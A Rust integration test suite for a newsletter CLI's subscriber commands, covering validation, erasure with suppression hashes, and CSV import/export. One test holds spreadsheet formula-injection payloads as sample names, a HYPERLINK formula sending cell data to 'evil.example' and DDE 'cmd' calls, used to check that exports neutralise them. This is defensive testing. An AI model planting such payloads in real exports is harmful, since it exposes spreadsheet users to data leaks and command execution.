//! `verdicts subscribers add|import|export|list|remove` through the real binary.

mod common;

use common::TestEnv;
use serde_json::Value;

fn list(env: &TestEnv, status: Option<&str>) -> Vec<Value> {
    let mut args = vec!["--json", "subscribers", "list"];
    if let Some(s) = status {
        args.extend(["--status", s]);
    }
    serde_json::from_str::<Value>(env.cli(&args).ok())
        .unwrap()
        .as_array()
        .unwrap()
        .clone()
}

#[tokio::test]
async fn add_list_export_and_remove() {
    let env = TestEnv::new().await;
    let out = env.cli(&[
        "subscribers",
        "add",
        "Ada@Example.org",
        "--name",
        "Ada",
        "--confirmed",
    ]);
    assert!(out.ok().contains("added ada@example.org (confirmed)"));
    env.cli(&["subscribers", "add", "bob@example.org"]).ok();
    let out = env.cli(&["subscribers", "add", "bob@example.org"]);
    assert!(out.ok().contains("already a subscriber"));

    let all = list(&env, None);
    assert_eq!(all.len(), 2);
    assert_eq!(all[0]["email"], "ada@example.org");
    assert_eq!(all[0]["status"], "confirmed");
    assert_eq!(all[1]["status"], "pending");
    assert_eq!(list(&env, Some("confirmed")).len(), 1);
    let out = env.cli(&["subscribers", "list", "--status", "happy"]);
    assert_eq!(out.code, 2);

    let csv = env.cli(&["subscribers", "export"]);
    let csv = csv.ok();
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some("email,name,status,created_at,confirmed_at,unsubscribed_at")
    );
    assert!(
        lines
            .next()
            .unwrap()
            .starts_with("ada@example.org,Ada,confirmed,")
    );
    assert!(
        lines
            .next()
            .unwrap()
            .starts_with("bob@example.org,,pending,")
    );

    // Erasure: personal data gone, consent records gone, a suppression hash kept.
    let out = env.cli(&["subscribers", "remove", "ada@EXAMPLE.org"]);
    assert!(out.ok().contains("erased"), "{}", out.stdout);
    let store = env.store().await;
    assert_eq!(store.count_rows("subscribers").await.unwrap(), 1);
    assert_eq!(store.count_rows("suppressions").await.unwrap(), 1);
    let consents: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM consents")
        .fetch_one(store.pool())
        .await
        .unwrap();
    assert_eq!(consents, 1, "only bob's record is left");
    let hash: String = sqlx::query_scalar("SELECT email_hash FROM suppressions")
        .fetch_one(store.pool())
        .await
        .unwrap();
    assert!(!hash.contains("ada") && hash.len() == 64);

    // The operator can never bring an erased address back.
    let out = env.cli(&["subscribers", "add", "Ada@example.org", "--confirmed"]);
    assert_eq!(out.code, 2);
    assert!(
        out.stderr.contains("only they can sign up again"),
        "{}",
        out.stderr
    );
    assert_eq!(list(&env, None).len(), 1);

    let out = env.cli(&["subscribers", "add", "not-an-address"]);
    assert_eq!(out.code, 2);
    assert!(out.stderr.contains("EMAIL:"));
}

#[tokio::test]
async fn csv_import_reports_bad_rows_and_never_reactivates() {
    let env = TestEnv::new().await;
    // Someone who left must stay gone after an import.
    env.cli(&["subscribers", "add", "gone@example.org", "--confirmed"])
        .ok();
    let store = env.store().await;
    common::unsubscribe_by_email(&store, "gone@example.org").await;

    let csv = "email,name\n\
               one@example.org,One\n\
               not an address,Two\n\
               three@example.org,\n\
               gone@example.org,Gone\n\
               one@example.org,Again\n\
               \"four@example.org\",\"Four, Esq.\"\n";
    let path = env.write("people.csv", csv);
    let path = path.to_str().unwrap();

    // --strict: the bad rows are reported and nothing is imported.
    let out = env.cli(&["subscribers", "import", "--strict", path]);
    assert_eq!(out.code, 2);
    assert!(out.stderr.contains("people.csv: line 3:"), "{}", out.stderr);
    assert!(
        out.stderr
            .contains("people.csv: line 6: one@example.org appears earlier"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("nothing imported"));
    assert_eq!(list(&env, None).len(), 1);

    // Without --strict: good rows in, bad rows reported, exit 2.
    let out = env.cli(&["subscribers", "import", path]);
    assert_eq!(out.code, 2, "bad rows make it an input error");
    assert!(
        out.stdout.contains(
            "3 added, 0 already present, 1 skipped (unsubscribed or erased), 2 bad row(s)"
        ),
        "{}",
        out.stdout
    );
    assert!(out.stderr.contains("line 3:") && !out.stderr.contains("line 2:"));
    let all = list(&env, None);
    let emails: Vec<&str> = all.iter().map(|s| s["email"].as_str().unwrap()).collect();
    assert_eq!(
        emails,
        [
            "gone@example.org",
            "one@example.org",
            "three@example.org",
            "four@example.org"
        ]
    );
    assert_eq!(all[0]["status"], "unsubscribed", "never re-activated");
    assert!(all[1..].iter().all(|s| s["status"] == "confirmed"));
    assert_eq!(all[3]["name"], "Four, Esq.");

    // A file without an email column is refused up front.
    let bad = env.write("bad.csv", "mail,name\nx@example.org,X\n");
    let out = env.cli(&["subscribers", "import", bad.to_str().unwrap()]);
    assert_eq!(out.code, 2);
    assert!(out.stderr.contains("needs an `email` column"));
    let out = env.cli(&["subscribers", "import", "missing.csv"]);
    assert_eq!(out.code, 2);
}

/// Names typed on the public form end up in the operator's spreadsheet: every cell a
/// spreadsheet would run as a formula is neutralised, read back through the `csv` crate.
#[tokio::test]
async fn export_neutralises_formula_cells() {
    let env = TestEnv::new().await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        // A spreadsheet that splits on `;` (or `,`) starts a cell inside these.
        ";=cmd|' /C calc'!A0;",
        "Ada,=1+1",
        "Bo; \"@SUM(1)\"",
        "Ada = fine",
    ];
    for (i, name) in names.iter().enumerate() {
        env.cli(&[
            "subscribers",
            "add",
            &format!("f{i}@example.org"),
            &format!("--name={name}"),
        ])
        .ok();
    }
    env.cli(&["subscribers", "add", "--", "-dash@example.org"])
        .ok();
    let out = env.cli(&["subscribers", "export"]);
    let mut reader = csv::Reader::from_reader(out.ok().as_bytes());
    let mut exported = Vec::new();
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {cell:?}"
            );
            // Whatever the spreadsheet splits on, no piece of the cell starts a formula.
            for piece in cell.split([',', ';', '\t', '\r', '\n']) {
                assert!(
                    !piece
                        .trim_start_matches([' ', '"'])
                        .starts_with(['=', '+', '-', '@']),
                    "a formula once split on , ; or tab: {piece:?} in {cell:?}"
                );
            }
        }
        exported.push((record[0].to_string(), record[1].to_string()));
    }
    assert_eq!(exported.len(), names.len() + 1);
    for (i, name) in names.iter().enumerate() {
        let (email, cell) = &exported[i];
        assert_eq!(email, &format!("f{i}@example.org"));
        let expected = match *name {
            "Ada = fine" => name.to_string(),
            ";=cmd|' /C calc'!A0;" => ";'=cmd|' /C calc'!A0;".to_string(),
            "Ada,=1+1" => "Ada,'=1+1".to_string(),
            "Bo; \"@SUM(1)\"" => "Bo;' \"@SUM(1)\"".to_string(),
            _ => format!("'{}", name.trim()),
        };
        assert_eq!(cell, &expected, "the text is kept, only neutralised");
    }
    assert_eq!(exported[names.len()].0, "'-dash@example.org");
}

/// A junk header line is named, not echoed whole.
#[tokio::test]
async fn a_junk_csv_header_is_cut_short_in_the_error() {
    let env = TestEnv::new().await;
    let junk = "x".repeat(1_000_000);
    let path = env.write("junk.csv", &format!("{junk}\nada@example.org\n"));
    let out = env.cli(&["subscribers", "import", path.to_str().unwrap()]);
    assert_eq!(out.code, 2);
    assert!(
        out.stderr.contains("needs an `email` column"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("bytes in all"), "{}", out.stderr);
    assert!(
        out.stderr.len() < 2_000,
        "{} bytes of error",
        out.stderr.len()
    );
    assert_eq!(
        env.store().await.count_rows("subscribers").await.unwrap(),
        0
    );
}

/// What row `i` of [`large_malformed_file`] is: a bad row and the error its report names, a
/// special address already in the database, or an ordinary new subscriber.
enum BigRow {
    Bad(&'static str),
    Special,
    Good,
}

const BIG_ROWS: usize = 100_000;

/// Rows of the large file that the database already knows: confirmed, unsubscribed, erased.
const BIG_SPECIAL: [(usize, &str); 3] = [
    (50_000, "kept@example.org"),
    (70_000, "gone@example.org"),
    (90_000, "erased@example.org"),
];

fn big_row(i: usize) -> (String, BigRow) {
    if let Some((_, email)) = BIG_SPECIAL.iter().find(|(at, _)| *at == i) {
        return (format!("{email},Special {i}"), BigRow::Special);
    }
    if i % 666 != 333 {
        return (format!("user{i}@example.org,Name {i}"), BigRow::Good);
    }
    match (i / 666) % 5 {
        0 => (
            format!("not-an-address-{i},Bad"),
            BigRow::Bad("does not look like an email address"),
        ),
        1 => (
            "USER0@example.org,Again".to_string(),
            BigRow::Bad("user0@example.org appears earlier in the file"),
        ),
        2 => (
            format!("user{i}@example.org,Name,extra"),
            BigRow::Bad("found record with 3 fields"),
        ),
        3 => (
            ",Nobody".to_string(),
            BigRow::Bad("Please enter your email address."),
        ),
        _ => (
            format!("user{i}@example.org,Evil\u{202E}name"),
            BigRow::Bad("A name cannot contain"),
        ),
    }
}

/// A malformed file of 100,000 rows: every bad row is reported by its line (the first 100 by
/// name, the rest counted), every good one lands, in file order, with its name and consent
/// record; known addresses are left alone. The same on SQLite and PostgreSQL (which import
/// through different paths: multi-row inserts, and `COPY` into a staging table).
#[tokio::test]
async fn a_large_malformed_file_reports_each_bad_row_and_imports_the_rest() {
    let env = TestEnv::new().await;
    for email in ["kept@example.org", "gone@example.org", "erased@example.org"] {
        env.cli(&["subscribers", "add", email, "--confirmed"]).ok();
    }
    env.cli(&["subscribers", "remove", "erased@example.org"])
        .ok();
    let store = env.store().await;
    common::unsubscribe_by_email(&store, "gone@example.org").await;

    let mut csv = String::from("email,name\n");
    let mut bad: Vec<(u64, &str)> = Vec::new();
    let mut good: Vec<(String, String)> = Vec::new();
    for i in 0..BIG_ROWS {
        let (line, kind) = big_row(i);
        match kind {
            BigRow::Bad(error) => bad.push((i as u64 + 2, error)),
            BigRow::Special => {}
            BigRow::Good => good.push((format!("user{i}@example.org"), format!("Name {i}"))),
        }
        csv.push_str(&line);
        csv.push('\n');
    }
    assert!(bad.len() > 100, "more bad rows than the report names");
    let path = env.write("big.csv", &csv);
    let path = path.to_str().unwrap();
    let before = store.count_rows("subscribers").await.unwrap();

    // --strict: the same report, and nothing written.
    let out = env.cli(&["subscribers", "import", "--strict", path]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("nothing imported"), "{}", out.stderr);
    assert_eq!(store.count_rows("subscribers").await.unwrap(), before);

    let out = env.cli(&["--json", "subscribers", "import", path]);
    assert_eq!(
        out.code, 2,
        "bad rows make it an input error: {}",
        out.stderr
    );
    let report: Value = serde_json::from_str(out.stdout.trim()).unwrap();
    assert_eq!(report["added"], good.len());
    assert_eq!(report["already_present"], 1, "kept@");
    assert_eq!(report["suppressed"], 2, "gone@ (unsubscribed) and erased@");
    assert_eq!(report["bad_row_count"], bad.len());
    let shown = report["bad_rows"].as_array().unwrap();
    assert_eq!(shown.len(), 100);
    for (row, (line, error)) in shown.iter().zip(&bad) {
        assert_eq!(row["line"], *line, "{row}");
        assert!(
            row["error"].as_str().unwrap().contains(error),
            "line {line}: {row}"
        );
    }
    for (line, _) in &bad[..100] {
        assert!(
            out.stderr.contains(&format!("big.csv: line {line}: ")),
            "line {line} named: {}",
            &out.stderr[..out.stderr.len().min(2000)]
        );
    }
    assert!(
        out.stderr
            .contains(&format!("… and {} more bad rows", bad.len() - 100)),
        "{}",
        &out.stderr[out.stderr.len().saturating_sub(500)..]
    );

    // Every good row landed once, confirmed, with its name, in file order.
    let imported: Vec<(String, Option<String>)> = sqlx::query_as(
        "SELECT email, name FROM subscribers WHERE source = 'import:big.csv' AND status = 'confirmed'
          ORDER BY id",
    )
    .fetch_all(store.pool())
    .await
    .unwrap();
    assert_eq!(imported.len(), good.len());
    for ((email, name), (want_email, want_name)) in imported.iter().zip(&good) {
        assert_eq!(email, want_email);
        assert_eq!(name.as_deref(), Some(want_name.as_str()));
    }
    assert_eq!(
        store.count_rows("subscribers").await.unwrap(),
        before + good.len() as i64
    );
    let consents: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM consents c JOIN subscribers s ON s.id = c.subscriber_id
          WHERE c.event = 'import' AND c.source = 'import:big.csv'",
    )
    .fetch_one(store.pool())
    .await
    .unwrap();
    assert_eq!(
        consents,
        good.len() as i64,
        "one consent record per added row"
    );
    let known: Vec<(String, String, String)> = sqlx::query_as(
        "SELECT email, status, source FROM subscribers
          WHERE email IN ('kept@example.org', 'gone@example.org', 'erased@example.org')
          ORDER BY id",
    )
    .fetch_all(store.pool())
    .await
    .unwrap();
    assert_eq!(
        known,
        [
            ("kept@example.org".into(), "confirmed".into(), "cli".into()),
            (
                "gone@example.org".into(),
                "unsubscribed".into(),
                "cli".into()
            ),
        ],
        "known addresses untouched, the erased one not brought back"
    );
}
